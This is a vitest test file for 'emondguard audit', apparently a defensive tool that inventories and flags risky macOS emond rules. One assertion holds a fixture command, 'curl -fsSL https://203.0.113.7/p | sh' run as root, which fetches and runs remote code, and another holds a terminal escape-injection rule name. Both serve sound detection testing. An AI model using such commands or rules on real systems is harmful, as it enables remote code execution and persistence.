import { describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { FIXTURES, addEmptyDir, fixtureTree } from './fixture-tree.js';

describe('emondguard audit', () => {
  it('prints the inventory as a table with every command in full', () => {
    const result = runCli(['audit', '--root', `${FIXTURES}malicious`]);
    expect(result.status).toBe(0);
    expect(result.stderr).toBe('');
    const out = result.stdout;
    expect(out).toContain('Configuration  /etc/emond.d/emond.plist  present (binary)');
    expect(out).toContain('  additionalRulesPaths: /Library/Caches/com.apple.emond');
    expect(out).toContain('  /Library/Caches/com.apple.emond  1 file  (from additionalRulesPaths)');
    expect(out).toContain(`RunCommand  /bin/sh -c 'curl -fsSL https://203.0.113.7/p | sh'  (user root)`);
    expect(out).toContain('[1] "dormant"  disabled  events: periodic');
    expect(out).toContain('emondClients  /private/var/db/emondClients  1 entry (launchd starts emond while any is here)');
    expect(out).toMatch(/Findings: 2 high, 2 medium, 1 low/);
    const findings = out.slice(out.indexOf('Findings:')).split('\n').slice(1, 6);
    expect(findings.map((line) => line.trim().split(/\s+/)[0])).toEqual(['HIGH', 'HIGH', 'MEDIUM', 'MEDIUM', 'LOW']);
  });

  it('says so when there is nothing to find', () => {
    const root = fixtureTree('apple-sample');
    addEmptyDir(root, 'private/var/db/emondClients');
    const result = runCli(['audit', '--root', root]);
    expect(result.status).toBe(0);
    expect(result.stdout).toContain('emondClients  /private/var/db/emondClients  empty');
    expect(result.stdout).toContain('none: no emond rule runs a command and emond has no clients');
  });

  it('prints JSON with --json', () => {
    const result = runCli(['audit', '--json', '--root', `${FIXTURES}broken`]);
    expect(result.status).toBe(0);
    const report = JSON.parse(result.stdout) as { summary: { malformedFiles: number; commandActions: number }; config: { status: string } };
    expect(report.config.status).toBe('malformed');
    expect(report.summary).toMatchObject({ malformedFiles: 4, commandActions: 4 });
  });

  it('never lets a rule name drive the terminal', () => {
    const result = runCli(['audit', '--root', `${FIXTURES}broken`]);
    expect(result.status).toBe(0);
    expect(result.stdout).not.toContain('\u001b');
    expect(result.stdout).toContain('"evil\\x1b[2Jname"');
  });

  it('exits 2 with a clear message when --root is not a folder', () => {
    const result = runCli(['audit', '--root', '/nonexistent/volume']);
    expect(result.status).toBe(2);
    expect(result.stderr).toMatch(/--root \/nonexistent\/volume is not a folder; give the mount point/);
  });
});
